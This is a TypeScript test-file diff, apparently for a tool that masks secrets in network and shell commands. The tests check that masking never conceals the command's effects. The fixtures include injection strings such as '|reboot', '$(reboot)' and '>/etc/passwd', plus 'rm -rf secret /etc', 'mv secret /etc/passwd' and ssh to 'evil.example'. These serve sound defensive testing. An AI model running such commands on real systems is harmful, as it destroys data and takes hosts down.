@@ -1,8 +1,12 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
+import { newId } from '@interlock/model';
 import type { Card } from '@interlock/protocol';
+import { classify } from '@interlock/risk';
 import { keepTyped } from '../keep-typed.ts';
 import { lookUp } from './look-up.ts';
+import { TypedSecrets } from './typed.ts';
+import { typedPlaces } from './typed-places.ts';
 import { type Double, wayDouble } from './way.double.ts';
 import { propose } from './way.ts';
 
@@ -123,4 +127,106 @@ test('one key makes a keychain entry of it, and the card comes again with the en
   assert.equal(name, 'r1 snmp-community 2');
   assert.equal(cards[1]?.lines[1]?.text, 'snmp-server community {{r1 snmp-community 2}} ro');
   assert.deepEqual(cards[1]?.placeholders, [{ name: 'r1 snmp-community 2', line: 1 }]);
+});
+
+test('what a command does is never hidden as a secret', () => {
+  const on = wayDouble({ host: { platform: 'linux' } });
+  const shown = (text: string) =>
+    found(on, text)
+      .call.lines.map((line) => line.text)
+      .join('\n');
+  for (const [text, seen] of [
+    ['echo password a|reboot', '|reboot'],
+    ['echo password a&reboot', '&reboot'],
+    ['echo secret `reboot`', '`reboot`'],
+    ['echo password a$(reboot)', '$(reboot)'],
+    ['echo password a>/etc/passwd', '>/etc/passwd'],
+    ['echo "password $(reboot)"', '$(reboot)'],
+    ['sh -c "echo password a|reboot"', '|reboot'],
+    ['ssh -l secret evil.example', 'evil.example'],
+    ['ssh -l secret 203.0.113.66', '203.0.113.66'],
+    ['ping secret evil.example', 'evil.example'],
+    ['echo password reboot; reboot', '; reboot'],
+    ['rm -rf secret /etc', '/etc'],
+    ['mv secret /etc/passwd', '/etc/passwd'],
+    ['systemctl stop password nginx', 'nginx'],
+    ['ip netns exec secret reboot', 'reboot'],
+  ] as const)
+    assert.ok(shown(text).includes(seen), `${text}: ${shown(text)}`);
+  assert.match(shown("echo password 'Px|y9'"), /^echo password '\{\{typed-\d+\}\}'$/);
+  assert.equal(shown('# password reboot\nreboot'), 'reboot');
+  assert.throws(() => found(on, '# password Run9\nRun9'), { code: 'call.secret-elsewhere' });
+  const router = wayDouble({ host: { platform: 'mikrotik_routeros' } });
+  assert.match(found(router, ':put password [/system reboot]').call.lines[0]?.text ?? '', /\[\/system reboot\]/);
+  const eos = wayDouble({ host: { platform: 'arista_eos' } });
+  assert.match(found(eos, 'bash timeout 2 echo secret abcd|reboot').call.lines[0]?.text ?? '', /\|reboot/);
+});
+
+test('behind a name that looks like the word for a secret, what a router does is seen', () => {
+  const lines = (platform: 'cisco_ios' | 'juniper_junos', text: string) =>
+    found(wayDouble({ host: { platform } }), text).call.lines.map((line) => line.text);
+  for (const line of ['route-map secret deny 10', 'ip prefix-list password deny 0.0.0.0/0', 'alias exec secret reload'])
+    assert.ok(lines('cisco_ios', `configure terminal\n${line}\nend`).includes(line), line);
+  const statement = 'set policy-options policy-statement secret then accept';
+  assert.ok(lines('juniper_junos', `configure\n${statement}\ncommit`).includes(statement));
+  assert.match(
+    lines('cisco_ios', 'configure terminal\nrouter bgp 1\nneighbor 10.0.0.1 password hunter\nend').join('\n'),
+    /password \{\{typed-1\}\}/,
+  );
+});
+
+test('what is hidden changes nothing that is decided', () => {
+  const words = ['password', 'secret', 'my-password', 'key', 'community', 'PASSWORD='];
+  const values = [
+    'reload',
+    'Reload',
+    'reboot',
+    'x|reboot',
+    'x&reboot',
+    '`reboot`',
+    'x>/etc/passwd',
+    '[/system reboot]',
+  ];
+  const ways = [
+    (word: string, value: string) => `${word} ${value}`,
+    (word: string, value: string) => `echo ${word} ${value}`,
+    (word: string, value: string) => `echo "${word} ${value}"; sh -c "${word} ${value}"`,
+    (word: string, value: string) => `configure terminal\n${word} ${value}\nalias exec ${word} ${value}\nend`,
+    (word: string, value: string) => `${value} ${word} ${value}`,
+    (word: string, value: string) => `configure\nset policy-options policy-statement ${word} ${value}\ncommit`,
+  ];
+  let hidden = 0;
+  for (const platform of ['linux', 'cisco_ios', 'arista_eos', 'juniper_junos', 'mikrotik_routeros'] as const)
+    for (const word of words)
+      for (const value of [...values, 'Hunter-22!'])
+        for (const way of ways) {
+          const text = way(word, value);
+          const places = typedPlaces(text, platform);
+          hidden += places.length;
+          let shown = text;
+          for (const { start, end } of places.toReversed())
+            shown = shown.slice(0, start) + 'x'.repeat(end - start) + shown.slice(end);
+          const judged = (command: string) => {
+            const { class: cls, tags, lines } = classify({ platform, mode: 'exec', command });
+            return [cls, [...tags].sort(), lines.length];
+          };
+          assert.deepEqual(judged(shown), judged(text), `${platform}: ${text}`);
+          const acts = /^x?([|&`>].*)$/.exec(value)?.[1];
+          if (platform === 'linux' && acts) assert.equal(shown.split(acts).length, text.split(acts).length, text);
+        }
+  assert.ok(hidden > 50, `${hidden} places`);
+});
+
+test('an address is no secret, and is hidden nowhere afterwards', () => {
+  const known: string[] = [];
+  const typed = new TypedSecrets(wayDouble().rooms.house.around, (bytes) => known.push(Buffer.from(bytes).toString()));
+  const id = newId('conversation', wayDouble().rooms.house.around.random);
+  for (const text of [
+    'ssh -l secret 203.0.113.66',
+    'key 2001:db8::1',
+    'password 10.0.0.0/8',
+    'secret tftp://a.example/x',
+  ])
+    assert.equal(typed.hideIn(text, id, 'cisco_ios').text, text);
+  assert.deepEqual(known, []);
 });
